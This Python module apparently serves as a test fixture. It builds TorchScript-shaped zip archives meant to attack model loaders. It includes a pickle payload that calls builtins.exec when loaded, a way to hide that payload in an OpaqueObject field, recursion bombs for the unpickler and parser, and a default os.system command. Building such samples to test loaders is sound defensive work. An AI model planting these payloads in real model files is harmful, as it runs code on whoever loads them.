"""Hand-made TorchScript archives for load-time attacks that torch.jit.save cannot produce."""

from __future__ import annotations

import base64
import io
import pickle
import struct
import zipfile

_CONSTANTS = b"\x80\x02)."


def _unicode(s: str) -> bytes:
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


class _Exec:
    """Pickles to builtins.exec(source): what an attacker's payload looks like."""

    def __init__(self, source: str):
        self.source = source

    def __reduce__(self):
        import builtins

        return (builtins.exec, (self.source, {}))


def archive(code: str, data_pkl: bytes, *, prefix: str = "model", extra: dict | None = None) -> bytes:
    """Return the bytes of a TorchScript-shaped zip holding the given class code and data.pkl."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(f"{prefix}/data.pkl", data_pkl)
        zf.writestr(f"{prefix}/code/__torch__.py", code)
        zf.writestr(f"{prefix}/constants.pkl", _CONSTANTS)
        zf.writestr(f"{prefix}/version", "3\n")
        zf.writestr(f"{prefix}/byteorder", "little")
        for name, data in (extra or {}).items():
            zf.writestr(f"{prefix}/{name}", data)
    return buf.getvalue()


_IDENTITY_CODE = """class M(Module):
  __parameters__ = []
  __buffers__ = []
  training : bool
  _is_full_backward_hook : Optional[bool]
  blob : __torch__.torch.classes.aten.OpaqueObject
  def forward(self: __torch__.M,
    x: Tensor) -> Tensor:
    return torch.zeros([torch.size(x, 0), {num_classes}])
"""


def python_at_load(source: str, *, num_classes: int = 10) -> bytes:
    """An archive whose loading runs `source` as Python (through the OpaqueObject pickle payload)."""
    payload = base64.b64encode(pickle.dumps(_Exec(source), protocol=2)).decode()
    data = (b"\x80\x02" + b"c__torch__\nM\n" + b")\x81" + b"}("
            + _unicode("training") + b"\x88" + _unicode("_is_full_backward_hook") + b"N"
            + _unicode("blob") + b"c__torch__.torch.classes.aten\nOpaqueObject\n" + b")\x81" + _unicode(payload) + b"b"
            + b"ub.")
    return archive(_IDENTITY_CODE.replace("{num_classes}", str(num_classes)), data)


def nested_pickle(depth: int = 200_000) -> bytes:
    """An archive whose data.pkl nests lists `depth` deep: a recursion bomb for the unpickler."""
    data = b"\x80\x02" + b"(" * depth + b"l" * depth + b"."
    return archive(_IDENTITY_CODE.replace("{num_classes}", "10"), data)


def nested_code(depth: int = 100_000) -> bytes:
    """An archive whose forward() is an expression nested `depth` deep: a recursion bomb for the parser."""
    expr = "(" * depth + "x" + ")" * depth
    code = ("class M(Module):\n  __parameters__ = []\n  __buffers__ = []\n  training : bool\n"
            "  def forward(self: __torch__.M,\n    x: Tensor) -> Tensor:\n    return " + expr + "\n")
    data = b"\x80\x02c__torch__\nM\n)\x81}(" + _unicode("training") + b"\x88ub."
    return archive(code, data)


def reduce_pickle(source: str = "import os; os.system('true')") -> bytes:
    """A plain pickle whose loading would call exec: what generic torch.load would run."""
    return pickle.dumps(_Exec(source), protocol=2)
